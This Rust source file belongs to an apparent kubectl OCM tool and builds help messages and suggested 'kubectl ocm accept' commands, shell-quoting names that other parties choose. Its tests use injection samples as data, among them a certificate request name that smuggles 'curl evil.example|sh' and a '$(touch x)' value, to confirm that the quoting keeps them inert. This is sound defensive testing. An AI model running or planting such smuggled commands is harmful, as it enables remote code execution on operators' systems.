//! What would help a cluster in, as flags and commands to type.

use jiff::Timestamp;
use ocm_core::accept::{Help, Options, Refusal};
use ocm_core::csr::Settings;
use ocm_core::shell::{option, shell};

/// What was typed: what helps is typed besides it.
pub(crate) struct Typed<'a> {
    /// The options.
    pub(crate) options: &'a Options,
    /// Whether clusters are only approved.
    pub(crate) approve_only: bool,
}

impl Typed<'_> {
    /// The command that accepts a cluster, or only approves it, with these options.
    pub(crate) fn command(&self, cluster: &str) -> String {
        let only = if self.approve_only { " --approve-only" } else { "" };
        command(&format!("{cluster}{only}"), self.options)
    }

    /// The same with something changed.
    fn with(&self, cluster: &str, change: impl FnOnce(&mut Options)) -> String {
        let mut options = self.options.clone();
        change(&mut options);
        Typed { options: &options, ..*self }.command(cluster)
    }

    /// What to type.
    pub(crate) fn words(&self, cluster: &str, help: &Help) -> String {
        words(self, cluster, help)
    }
}

fn words(typed: &Typed<'_>, cluster: &str, help: &Help) -> String {
    let approve_only = typed.approve_only;
    match help {
        Help::Agent if approve_only => "its agent registers it: look at the agent on the cluster".to_owned(),
        Help::NameKey(keys) if keys.is_empty() => "none of the keys can be read".to_owned(),
        Help::NameKey(keys) => {
            format!("name the key that you mean: --fingerprint {}", keys.join(" or --fingerprint "))
        }
        Help::Replace { asks, holds } => {
            let holds = match holds.as_slice() {
                [] => "a key of which the hub has no request any more".to_owned(),
                holds => holds.join(" and "),
            };
            let (asks, key) = match asks.as_slice() {
                [] => ("a key that cannot be read".to_owned(), "KEY"),
                [key] => (key.clone(), key.as_str()),
                asks => (asks.join(" and "), "KEY"),
            };
            format!(
                "the name is held with {holds}, and {asks} asks for it; if the cluster was rebuilt or its agent lost its \
                 key: {}",
                typed.with(cluster, |options| {
                    (options.replace, options.fingerprint) = (true, Some(key.to_owned()));
                    options.without_request = false;
                })
            )
        }
        Help::ReuseName(until) => {
            let until = until.map(|until| format!(" until {}", day(until))).unwrap_or_default();
            format!(
                "certificates of the former holder may be valid{until} and would work again; if you accept that: {}",
                typed.with(cluster, |options| options.reuse_name = true)
            )
        }
        Help::WithoutRequest => format!(
            "wait for its request with --wait; if you know the cluster and it needs none: {}",
            typed.with(cluster, |options| (options.without_request, options.fingerprint) = (true, None))
        ),
        Help::Wait if approve_only => "repeat the command when its agent has asked".to_owned(),
        Help::Wait => "wait for its request with --wait".to_owned(),
        Help::AsRegistered => {
            format!("if that is meant: {}", typed.with(cluster, |options| options.as_registered = true))
        }
        Help::ClusterSet(set) => format!("if clusters may choose this set, add {}", option("--cluster-set", set)),
        Help::Requester(user) => {
            format!("if {user:?} is to register clusters, add {}", option("--requester", user))
        }
        Help::Lifetime => "if you want that, raise --max-lifetime".to_owned(),
        Help::Request(request) => format!("look at it: kubectl get {} -o yaml", named(request)),
        Help::AskAgain(request) => format!("to let it ask again: kubectl delete {}", named(request)),
        Help::ByName(name) if approve_only => {
            format!("to approve it by its name: kubectl ocm accept {name} --approve-only")
        }
        Help::ByName(name) => format!("to let it in again: kubectl ocm accept {name}"),
        Help::OtherName => "join it under another name".to_owned(),
        Help::Agent => {
            "its agent registers it: look at the agent on the cluster, or wait for it with --wait".to_owned()
        }
        Help::Again => "look at it again and repeat the command".to_owned(),
    }
}

/// A certificate request as an argument of kubectl. Whoever makes one chooses its name, of nearly any characters.
fn named(request: &str) -> String {
    shell(&format!("csr/{request}"))
}

/// The command that accepts a cluster with these options.
fn command(cluster: &str, options: &Options) -> String {
    let Options { settings, fingerprint, replace, reuse_name, without_request, as_registered, cluster_sets, .. } =
        options;
    let mut line = format!("kubectl ocm accept {cluster}");
    let switches = [
        (*replace, "--replace"),
        (*reuse_name, "--reuse-name"),
        (*without_request, "--without-request"),
        (*as_registered, "--as-registered"),
    ];
    for (_, flag) in switches.iter().filter(|(is_set, _)| *is_set) {
        line += &format!(" {flag}");
    }
    let fingerprint = fingerprint.iter().map(|key| ("--fingerprint", key));
    let sets = cluster_sets.iter().map(|set| ("--cluster-set", set));
    let requesters = settings.requesters.iter().map(|user| ("--requester", user));
    for (flag, value) in fingerprint.chain(sets).chain(requesters) {
        line += &format!(" {}", option(flag, value));
    }
    let lifetime = settings.max_lifetime_seconds;
    if lifetime != Settings::default().max_lifetime_seconds {
        line += &format!(" --max-lifetime {lifetime}s");
    }
    line
}

/// The question about a refusal that a person may override.
pub(crate) fn question(cluster: &str, refusal: &Refusal, approve_only: bool) -> String {
    let until = match &refusal.help {
        Some(Help::ReuseName(Some(until))) => {
            format!(" Certificates of the former holder may be valid until {} and would work again.", day(*until))
        }
        _ => String::new(),
    };
    let verb = if approve_only { "Approve" } else { "Accept" };
    format!("{cluster}: {}.{until} {verb} it all the same?", refusal.detail)
}

fn day(time: Timestamp) -> String {
    time.to_string().split('T').next().unwrap_or_default().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_strangers_choose_are_words_of_a_command_and_no_more() {
        let options = Options::default();
        let words = |help: Help| Typed { options: &options, approve_only: false }.words("c1", &help);
        let request = "x;curl evil.example|sh;#";
        let look = "look at it: kubectl get 'csr/x;curl evil.example|sh;#' -o yaml";
        assert_eq!(words(Help::Request(request.to_owned())), look);
        let again = "to let it ask again: kubectl delete 'csr/x;curl evil.example|sh;#'";
        assert_eq!(words(Help::AskAgain(request.to_owned())), again);
        assert_eq!(words(Help::AskAgain("--all".to_owned())), "to let it ask again: kubectl delete csr/--all");
        let user = |user: &str| words(Help::Requester(user.to_owned()));
        assert!(user("$(touch x)").ends_with(", add --requester '$(touch x)'"));
        assert!(user("--without-request").ends_with(", add --requester=--without-request"));
    }

    #[test]
    fn what_helps_is_typed_besides_what_was_typed() {
        let options =
            Options { fingerprint: Some("ab".to_owned()), cluster_sets: vec!["prod".to_owned()], ..Options::default() };
        let typed = |approve_only| Typed { options: &options, approve_only };
        let line = |help: Help, approve_only| {
            let words = typed(approve_only).words("c1", &help);
            words.rsplit_once(": ").expect("a command").1.to_owned()
        };
        let reuse = "kubectl ocm accept c1 --reuse-name --fingerprint ab --cluster-set prod";
        assert_eq!(line(Help::ReuseName(None), false), reuse);
        let only = "kubectl ocm accept c1 --approve-only --reuse-name --fingerprint ab --cluster-set prod";
        assert_eq!(line(Help::ReuseName(None), true), only);
        let replace = Help::Replace { asks: vec!["cd".to_owned()], holds: vec!["ab".to_owned()] };
        assert_eq!(line(replace, false), "kubectl ocm accept c1 --replace --fingerprint cd --cluster-set prod");
        assert_eq!(typed(false).words("c1", &Help::Wait), "wait for its request with --wait");
        // They do not go together.
        let options = Options { without_request: true, ..Options::default() };
        let replace = Help::Replace { asks: vec!["cd".to_owned()], holds: Vec::new() };
        let words = Typed { options: &options, approve_only: false }.words("c1", &replace);
        assert!(words.ends_with("kubectl ocm accept c1 --replace --fingerprint cd"), "{words}");
    }

    #[test]
    fn the_command_names_requesters_as_words() {
        let requesters = ["$(touch x)", "-x"].map(str::to_owned).into();
        let options = Options { settings: Settings { requesters, ..Settings::default() }, ..Options::default() };
        assert_eq!(command("c1", &options), "kubectl ocm accept c1 --requester '$(touch x)' --requester=-x");
    }
}
